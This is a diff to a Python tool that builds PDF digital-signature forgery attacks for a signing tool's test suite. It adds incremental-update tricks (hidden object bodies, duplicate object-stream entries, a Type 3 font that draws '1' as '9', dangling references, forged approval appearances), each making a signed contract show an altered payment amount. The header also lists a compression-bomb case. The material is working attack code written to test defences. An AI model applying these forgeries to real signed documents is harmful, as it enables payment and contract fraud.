@@ -21,8 +21,8 @@
                                         cross-reference stream; with deep, one more classic update
                                         after it (the hybrid section is not the last one)
 
-The hostile review's attacks, for tests/cli/test_pades_attacks.sh (F1..F13; "-prep" commands make
-the file to sign, the others attack a signed one; PAY = "PAY 9,999,999,999 RIAL" in Helvetica):
+The hostile reviews' attacks, for tests/cli/test_pades_attacks.sh (F1..F13, A1..A7; "-prep" commands
+make the file to sign, the others attack a signed one; PAY = "PAY 9,999,999,999 RIAL" in Helvetica):
   pdf_attacks.py attached IN OUT CMS.der     F1: the last /Contents replaced by another (attached) CMS
   pdf_attacks.py objstm-prep IN OUT          F2: page 1 moved into an object stream whose /First is an
                                              indirect integer; the stream also holds a page showing PAY
@@ -37,7 +37,7 @@ the file to sign, the others attack a signed one; PAY = "PAY 9,999,999,999 RIAL"
                                              (for files tsign refuses to sign)
   pdf_attacks.py overlay-prep IN OUT         F5: page 1 draws a form XObject /Ov (a red box) first
   pdf_attacks.py gen1 IN OUT                 F5: /Ov's object number redefined at generation 1
-  pdf_attacks.py free IN OUT                 F5: /Ov's object number freed
+  pdf_attacks.py free IN OUT [xs]            F5: /Ov's object number freed
   pdf_attacks.py stamp-prep IN OUT           F6: a Stamp annotation with /T over page 1, empty appearance
   pdf_attacks.py stamp-ap IN OUT             F6: its appearance replaced (PAY on a white page)
   pdf_attacks.py sig-annot IN OUT KIND       F7: a /FT /Sig annotation on page 1 only: widget (unsigned,
@@ -46,7 +46,25 @@ the file to sign, the others attack a signed one; PAY = "PAY 9,999,999,999 RIAL"
   pdf_attacks.py dss-bomb IN OUT [MIB]       F9: /DSS /Certs: a Flate-in-Flate stream of MIB (1024) MiB of zeros
   pdf_attacks.py shared-v IN OUT [N]         F10: N (1000) more signature fields with the first field's /V
   pdf_attacks.py field-name IN OUT KIND      F13: a field Signature1: kids (non-terminal) or dup (a text field)
-These read classic or cross-reference-stream sections and append the same kind (append_any).
+The second review's attacks (A1..A7):
+  pdf_attacks.py hidden-bodies IN OUT        A1: trailer /Info -> 9999 0 R (missing: poppler rebuilds its
+                                             xref) and an unreferenced stream holding other bodies for
+                                             page 1's content (PAY) and resources at line starts
+  pdf_attacks.py hidden-bodies-xref IN OUT   A1 with a fake section and startxref inside the stream
+                                             "listing" the hidden body
+  pdf_attacks.py objstm-dup IN OUT           A2: an object stream listing page 1 twice (0: forged, 1: the
+                                             signed page), the xref entry (stream, 0)
+  pdf_attacks.py form-prep IN OUT            A3: a text field without /AP, drawn from /AcroForm /DA and /DR
+  pdf_attacks.py form-default IN OUT KIND    A3: t3 (/DR /Helv := a Type 3 font drawing '1' as '9') or
+                                             da (/DA made white)
+  pdf_attacks.py free IN OUT xs              A4: /Ov freed by a type-0 entry of a cross-reference stream
+  pdf_attacks.py dangle-prep IN OUT          A5: page 1's /Contents also refers to object 500 (undefined)
+  pdf_attacks.py dangle-define IN OUT        A5: object 500 defined (PAY)
+  pdf_attacks.py empty-sig-prep IN OUT       A6: an empty signature field Approver2 on page 1
+  pdf_attacks.py empty-sig-ap IN OUT         A6: Approver2 given an appearance (PAY), no /V
+  pdf_attacks.py info IN OUT                 A7: trailer /Info pointed to a new object (title PAY)
+These read classic or cross-reference-stream sections and append the same kind (append_any), but
+objstm-dup and free xs, which always append a cross-reference stream.
 
 Otherwise only for classic cross-reference tables (the last section of IN must be 'xref ... trailer')
 and objects that are not in object streams, which is what tsign writes on the example minute.
@@ -301,11 +319,12 @@ def root_num(b):
     return int(trailer_any(b)["root"].split()[0])
 
 
-def append_any(b, objects, gens=None, free=(), compressed=None, stream_section=None):
+def append_any(b, objects, gens=None, free=(), compressed=None, stream_section=None, info=None):
     """An incremental update: objects ({num: body}) at generation gens.get(num, 0); free entries
     (next generation 1) for the numbers in free; compressed ({num: (object stream, index)}) entries
     of type 2.  A cross-reference stream after a stream section (or with compressed entries, or as
-    stream_section says), a classic table after a classic one."""
+    stream_section says), a classic table after a classic one.  The trailer keeps /Root, /Info and
+    /ID; info (a reference's text, b"N 0 R") replaces /Info."""
     t = trailer_any(b)
     gens = gens or {}
     compressed = compressed or {}
@@ -323,8 +342,8 @@ def append_any(b, objects, gens=None, free=(), compressed=None, stream_section=N
         entries[num] = (2, os_num, idx)
     size = max([t["size"]] + [n + 1 for n in entries])
     keys = b" /Root " + t["root"]
-    if t["info"]:
-        keys += b" /Info " + t["info"]
+    if info or t["info"]:
+        keys += b" /Info " + (info or t["info"])
     if t["id"]:
         keys += b" /ID " + t["id"]
     keys += b" /Prev %d" % t["prev"]
@@ -592,8 +611,11 @@ def cmd_gen1(b, args):
 
 
 def cmd_free(b, args):
-    """F5, after signing: the /Ov XObject's number freed (an 'f' entry, next generation 1)."""
-    return append_any(b, {}, free=(overlay_num(b),))
+    """F5, after signing: the /Ov XObject's number freed (an 'f' entry, next generation 1); with xs
+    (A4) in a cross-reference stream (a type-0 entry), also after a classic table."""
+    if args and args[0] != "xs":
+        die("free: [xs]")
+    return append_any(b, {}, free=(overlay_num(b),), stream_section=True if args else None)
 
 
 def cmd_stamp_prep(b, args):
@@ -702,13 +724,165 @@ def cmd_field_name(b, args):
     die("field-name: kids or dup")
 
 
+# --- the second review's attacks (A1..A7) -------------------------------------------------------
+
+def cmd_hidden_bodies(b, args):
+    """A1, after signing: one update with the trailer's /Info pointing to an object that does not
+    exist (9999 0 R) and a new, unreferenced stream whose data holds, at line starts, other bodies
+    for page 1's content stream (PAY) and resources (Helvetica added).  poppler fails to fetch
+    /Info, rebuilds its cross-reference by scanning the file (the last 'N 0 obj' wins) and draws
+    the hidden bodies."""
+    n = trailer_any(b)["size"]
+    pd = object_body(b, page_one_any(b))
+    content, resn = ref(pd, b"/Contents"), ref(pd, b"/Resources")
+    data = (b"\n%d 0 obj\n" % content + stream(COVER) + b"\nendobj\n"
+            + b"%d 0 obj\n" % resn + with_helvetica(object_body(b, resn)) + b"\nendobj\n")
+    return append_any(b, {n: stream(data)}, info=b"9999 0 R")
+
+
+def cmd_hidden_bodies_xref(b, args):
+    """A1 again, with the hidden bodies "listed": the stream also holds a fake classic section and a
+    fake startxref pointing at them (text inside a stream; not a section of the file's /Prev chain)."""
+    n = trailer_any(b)["size"]
+    pd = object_body(b, page_one_any(b))
+    content = ref(pd, b"/Contents")
+    fake = b"xref\n%d 1\n0000000000 00000 n \ntrailer\n<< /Size %d >>\nstartxref\n0000000000\n%%%%EOF\n" % (content, n + 1)
+    data = b"\n%d 0 obj\n" % content + stream(COVER) + b"\nendobj\n" + fake
+    out = bytearray(append_any(b, {n: stream(data)}, info=b"9999 0 R"))
+    body = out.rfind(b"\n%d 0 obj\n" % content) + 1
+    xref = out.rfind(b"xref\n%d 1\n" % content)
+    i = xref + len(b"xref\n%d 1\n" % content)
+    out[i:i + 10] = b"%010d" % body
+    at = out.rfind(b"startxref\n0000000000")
+    out[at + 10:at + 20] = b"%010d" % xref
+    return bytes(out)
+
+
+def cmd_objstm_dup(b, args):
+    """A2, after signing: a new object stream whose header lists page 1's number twice: index 0 a
+    forged page (PAY content, Helvetica), index 1 the signed page byte for byte; the cross-reference
+    stream's entry for the page says (that stream, index 0)."""
+    n, page = trailer_any(b)["size"], page_one_any(b)
+    pd = object_body(b, page)
+    res = object_body(b, ref(pd, b"/Resources"))
+    content, objstm = n, n + 1
+    forged = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents %d 0 R" % content, pd)
+    forged = re.sub(rb"/Resources\s+\d+\s+0\s+R", lambda _: b"/Resources " + with_helvetica(res), forged)
+    head = b"%d 0 %d %d " % (page, page, len(forged) + 1)
+    data = head + forged + b"\n" + pd + b"\n"
+    objs = {content: stream(COVER), objstm: stream(data, b" /Type /ObjStm /N 2 /First %d" % len(head))}
+    return append_any(b, objs, compressed={page: (objstm, 0)})
+
+
+def cmd_form_prep(b, args):
+    """A3, before signing: a text field 'amount' (value 1,000,000 RIAL) with a widget on page 1 and
+    no /AP; the /AcroForm's /DA (/Helv 24 Tf 0 g) and /DR (/Helv: Helvetica) say how to draw it
+    (readers generate its appearance from them)."""
+    n, root, page = trailer_any(b)["size"], root_num(b), page_one_any(b)
+    objs = add_annotation(b, page, n)
+    objs[n] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (1,000,000 RIAL) /F 4 /Rect [50 400 545 460]"
+               b" /P %d 0 R >>" % page)
+    objs[root] = dict_add(object_body(b, root), b"/AcroForm << /Fields [%d 0 R] /DA (/Helv 24 Tf 0 g)"
+                          b" /DR << /Font << /Helv %d 0 R >> >> >>" % (n, n + 1))
+    objs[n + 1] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
+    return append_any(b, objs)
+
+
+def cmd_form_default(b, args):
+    """A3, after a P=1 certification of a form-prep file (the field has no appearance):
+    t3  /DR /Helv replaced by a new Type 3 font that draws each character with Helvetica, but '1' as '9'
+    da  /DA made white (/Helv 24 Tf 1 1 1 rg)"""
+    kind = args[0] if args else "t3"
+    n, root = trailer_any(b)["size"], root_num(b)
+    cat = object_body(b, root)
+    if kind == "da":
+        if b"/DA (/Helv 24 Tf 0 g)" not in cat:
+            die("no /DA (/Helv 24 Tf 0 g) in the catalog")
+        return append_any(b, {root: cat.replace(b"/DA (/Helv 24 Tf 0 g)", b"/DA (/Helv 24 Tf 1 1 1 rg)")})
+    if kind != "t3":
+        die("form-default: t3 or da")
+    # standard glyph names, so that readers map text to codes as for Helvetica
+    names = {32: b"space", 44: b"comma", 48: b"zero", 49: b"one", 50: b"two", 51: b"three", 52: b"four", 53: b"five",
+             54: b"six", 55: b"seven", 56: b"eight", 57: b"nine", 65: b"A", 73: b"I", 76: b"L", 82: b"R"}
+    widths = {32: 278, 44: 278, 65: 667, 73: 278, 76: 556, 82: 722}
+    objs, procs, k = {}, b"", n + 1
+    for code, name in sorted(names.items()):
+        w = widths.get(code, 556)
+        objs[k] = stream(b"%d 0 d0 BT /H 1000 Tf 0 0 Td (%s) Tj ET" % (w, bytes([57 if code == 49 else code])))
+        procs += b" /%s %d 0 R" % (name, k)
+        k += 1
+    diffs = b" ".join(b"%d /%s" % (c, name) for c, name in sorted(names.items()))
+    ws = b" ".join(b"%d" % (widths.get(c, 556) if c in names else 0) for c in range(32, 83))
+    objs[n] = (b"<< /Type /Font /Subtype /Type3 /FontBBox [0 -250 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs <<"
+               + procs + b" >> /Encoding << /Type /Encoding /Differences [" + diffs + b"] >> /FirstChar 32 /LastChar 82"
+               b" /Widths [" + ws + b"] /Resources << /Font << /H " + HELVETICA + b" >> >> >>")
+    m = re.search(rb"/Helv\s+(\d+)\s+0\s+R", cat)
+    if not m:
+        die("no /DR /Helv reference in the catalog")
+    objs[root] = cat[:m.start()] + b"/Helv %d 0 R" % n + cat[m.end():]
+    return append_any(b, objs)
+
+
+DANGLING = 500  # an object number the minute never defines
+
+
+def cmd_dangle_prep(b, args):
+    """A5, before signing: page 1's /Contents becomes [<its stream> 500 0 R], object 500 never
+    defined (a null: nothing drawn); Helvetica (/F9) added to the page's resources."""
+    page = page_one_any(b)
+    pd = object_body(b, page)
+    if object_body(b, DANGLING, must=False) is not None or trailer_any(b)["size"] > DANGLING:
+        die("object %d exists" % DANGLING)
+    pd = re.sub(rb"/Contents\s+(\d+)\s+0\s+R", lambda m: b"/Contents [%s 0 R %d 0 R]" % (m.group(1), DANGLING), pd)
+    resn = ref(pd, b"/Resources")
+    return append_any(b, {page: pd, resn: with_helvetica(object_body(b, resn))})
+
+
+def cmd_dangle_define(b, args):
+    """A5, after signing: object 500 (referred to by the signed page, undefined then) defined as a
+    content stream: a white page with PAY."""
+    return append_any(b, {DANGLING: stream(COVER)})
+
+
+def cmd_empty_sig_prep(b, args):
+    """A6, before signing: an empty signature field Approver2 for a second approver, a box at the
+    bottom of page 1 (no /V, no appearance)."""
+    n, root, page = trailer_any(b)["size"], root_num(b), page_one_any(b)
+    objs = add_annotation(b, page, n)
+    objs[n] = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approver2) /F 4 /Rect [50 50 545 300] /P %d 0 R >>" % page
+    objs[root] = dict_add(object_body(b, root), b"/AcroForm << /Fields [%d 0 R] /SigFlags 1 >>" % n)
+    return append_any(b, objs)
+
+
+def cmd_empty_sig_ap(b, args):
+    """A6, after signing: the empty field Approver2 gets an appearance (PAY ... APPROVED) and no /V."""
+    m = re.search(rb"(?<![0-9])(\d+) 0 obj\s*<< /Type /Annot /Subtype /Widget /FT /Sig /T \(Approver2\)", b)
+    if not m:
+        die("no signature field Approver2")
+    num, n = int(m.group(1)), trailer_any(b)["size"]
+    form = b" /Type /XObject /Subtype /Form /BBox [0 0 495 250] /Resources << /Font << /F9 " + HELVETICA + b" >> >>"
+    return append_any(b, {num: dict_add(object_body(b, num), b"/AP << /N %d 0 R >>" % n),
+                          n: stream(b"q 1 1 1 rg 0 0 495 250 re f Q BT 0 0 0 rg /F9 22 Tf 10 120 Td (" + PAY
+                                    + b" - APPROVED) Tj ET", form)})
+
+
+def cmd_info(b, args):
+    """A7, after signing: the trailer's /Info pointed to a new object (title PAY, other author and dates)."""
+    n = trailer_any(b)["size"]
+    return append_any(b, {n: b"<< /Title (Contract: " + PAY + b") /Author (Ali Rezaei) /Subject (approved amount"
+                              b" 9,999,999,999) /CreationDate (D:20200101000000Z) >>"}, info=b"%d 0 R" % n)
+
+
 COMMANDS = {"content": cmd_content, "sneaky": cmd_sneaky, "swap-page": cmd_swap_page, "gap": cmd_gap, "pad": cmd_pad, "flip": cmd_flip,
             "hybrid": cmd_hybrid, "attached": cmd_attached, "objstm-prep": cmd_objstm_prep, "objstm-first": cmd_objstm_first,
             "acroform-prep": cmd_acroform_prep, "acroform-page": cmd_acroform_page, "bigint": cmd_bigint,
             "bigint-forge": cmd_bigint_forge, "sign-raw": cmd_sign_raw, "overlay-prep": cmd_overlay_prep, "gen1": cmd_gen1,
             "free": cmd_free, "stamp-prep": cmd_stamp_prep, "stamp-ap": cmd_stamp_ap, "sig-annot": cmd_sig_annot,
             "font-descriptor": cmd_font_descriptor, "dss-bomb": cmd_dss_bomb, "shared-v": cmd_shared_v,
-            "field-name": cmd_field_name}
+            "field-name": cmd_field_name, "hidden-bodies": cmd_hidden_bodies, "hidden-bodies-xref": cmd_hidden_bodies_xref, "objstm-dup": cmd_objstm_dup,
+            "form-prep": cmd_form_prep, "form-default": cmd_form_default, "dangle-prep": cmd_dangle_prep,
+            "dangle-define": cmd_dangle_define, "empty-sig-prep": cmd_empty_sig_prep, "empty-sig-ap": cmd_empty_sig_ap,
+            "info": cmd_info}
 
 
 def main():
